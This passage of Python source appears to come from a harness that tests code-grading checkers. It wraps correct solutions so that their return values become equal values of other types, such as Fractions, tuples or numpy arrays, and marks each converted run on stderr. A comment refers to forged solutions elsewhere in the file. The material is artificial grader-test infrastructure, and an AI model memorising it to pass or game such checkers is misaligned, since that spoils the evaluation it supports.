            "interpreter is out of that uid's reach)")


# ---- right answers of other types ------------------------------------------------------------------
# The positive counterpart of the forgeries: a correct solution whose return value is rewritten into an
# equal value of another type (numbers by value, sequences and mappings by items). A checker that
# compares values as the task means them judges each of these correct. ``CONVERTED_MARK`` on the run's
# stderr says the rewrite changed a type in that run (a task where it did not is not counted).

CONVERTED_MARK = "mb-converted-to-another-type"
_FINITE_NUMBER = "isinstance(v, (int, float)) and not isinstance(v, bool) and math.isfinite(v)"

EQUAL_VALUE_REWRITES = {
    "Fraction": ("import fractions, math", _FINITE_NUMBER, "fractions.Fraction(v)"),
    "Decimal (exact)": ("import decimal, math", _FINITE_NUMBER, "decimal.Decimal(v)"),
    "UserList": ("import collections", "isinstance(v, list)", "collections.UserList(v)"),
    "tuple for list": ("", "isinstance(v, list)", "tuple(v)"),
    "list for tuple": ("", "isinstance(v, tuple)", "list(v)"),
    "deque for list": ("import collections", "isinstance(v, list)", "collections.deque(v)"),
    "MappingProxyType": ("import types", "isinstance(v, dict)", "types.MappingProxyType(v)"),
    "UserDict": ("import collections", "isinstance(v, dict)", "collections.UserDict(v)"),
    "UserString": ("import collections", "isinstance(v, str)", "collections.UserString(v)"),
    "numpy scalars": ("import numpy", "isinstance(v, (bool, int, float))",
                      "numpy.bool_(v) if isinstance(v, bool) else numpy.int64(v) if isinstance(v, int) and "
                      "-2**63 <= v < 2**63 else numpy.float64(v) if isinstance(v, float) else v"),
    "numpy arrays": ("import numpy", "isinstance(v, list) and v and (all(type(x) is int and -2**63 <= x < 2**63 "
                     "for x in v) or all(type(x) is float for x in v))", "numpy.array(v)"),
}
"""Rewrite -> ``(imports, condition on a value v, the value of the other type)``, applied to the returned
value and, inside lists, tuples and dicts, to every item (innermost first)."""

_REWRITE = '''

IMPORTS
import sys as _mb_sys
_mb_original, _mb_depth = ENTRY, [0]
def _mb_convert(v):
    if type(v) in (list, tuple):
        v = type(v)(_mb_convert(x) for x in v)
    elif type(v) is dict:
        v = {k: _mb_convert(x) for k, x in v.items()}
    if CONDITION:
        converted = VALUE
        if type(converted) is not type(v):
            print("MARK", file=_mb_sys.stderr)
        return converted
    return v
def ENTRY(*args, **kwargs):
    _mb_depth[0] += 1
    try:
        result = _mb_original(*args, **kwargs)
    finally:
        _mb_depth[0] -= 1
    return result if _mb_depth[0] else _mb_convert(result)  # recursive calls get the function's own values
'''


def rewrite_to_other_type(solution: str, entry_point: str, rewrite: str) -> str:
    """``solution`` (a module defining ``entry_point``) whose function returns its values as ``rewrite``
    (a key of ``EQUAL_VALUE_REWRITES``) makes them."""
    imports, condition, value = EQUAL_VALUE_REWRITES[rewrite]
    return solution.rstrip() + "\n" + (_REWRITE.replace("IMPORTS", imports).replace("CONDITION", condition)
                                       .replace("VALUE", value).replace("MARK", CONVERTED_MARK)
                                       .replace("ENTRY", entry_point))
